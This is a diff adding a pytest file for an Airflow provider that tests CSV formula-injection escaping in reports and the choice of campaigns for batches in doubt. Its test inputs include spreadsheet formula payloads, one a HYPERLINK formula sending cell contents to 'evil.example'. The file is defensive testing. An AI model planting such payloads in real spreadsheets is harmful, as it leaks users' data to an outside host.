@@ -1,0 +1,45 @@
+"""Text of the vendor, and of pushes, that reaches a report or decides about batches in doubt."""
+
+import csv
+import json
+from types import SimpleNamespace
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from airflow_provider_inforu.operators.in_doubt import find_accepted
+from airflow_provider_inforu.operators.report_file import COLUMNS, _as_cell, _from_cell, write_report
+from airflow_provider_inforu.sending.dispatch import FIRST
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1-1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A2)']
+)
+def test_no_cell_of_a_report_begins_a_formula(tmp_path, text):
+    row = {
+        **dict.fromkeys(COLUMNS),
+        **dict.fromkeys(("key", "outcome", "digit", "reason"), text),
+        "seconds": 8,
+    }
+    write_report(str(tmp_path / "report.csv"), [row])
+    write_report(str(tmp_path / "report.ndjson"), [row])
+    with (tmp_path / "report.csv").open(encoding="utf-8", newline="") as file:
+        (cells,) = csv.DictReader(file)
+    assert {cells[name] for name in ("key", "outcome", "digit", "reason")} == {f"'{text}"}
+    assert cells["seconds"] == "8"
+    assert json.loads((tmp_path / "report.ndjson").read_text("utf-8"))["key"] == text
+
+
+@given(st.text(alphabet="'=+-@\t\rab", max_size=6))
+def test_a_cell_is_read_back_as_what_it_was(text):
+    assert _from_cell(_as_cell(text)) == text
+
+
+def test_a_forged_push_chooses_no_campaign_for_the_batches_after_the_first():
+    """The first batch may make the copy of a campaign, to which all others are sent."""
+    keys = {FIRST: ["a"], FIRST + 1: ["b"]}
+    result = SimpleNamespace(send_id="0" * 16, in_doubt=[*keys], keys_of=keys.get)
+    calls = [SimpleNamespace(key=key, campaign_id=666) for key in "ab"]
+    hook = SimpleNamespace(settings=SimpleNamespace(has_receiver=True), iter_call_results=lambda _: calls)
+    assert find_accepted(hook, result) == {FIRST: None, FIRST + 1: 666}
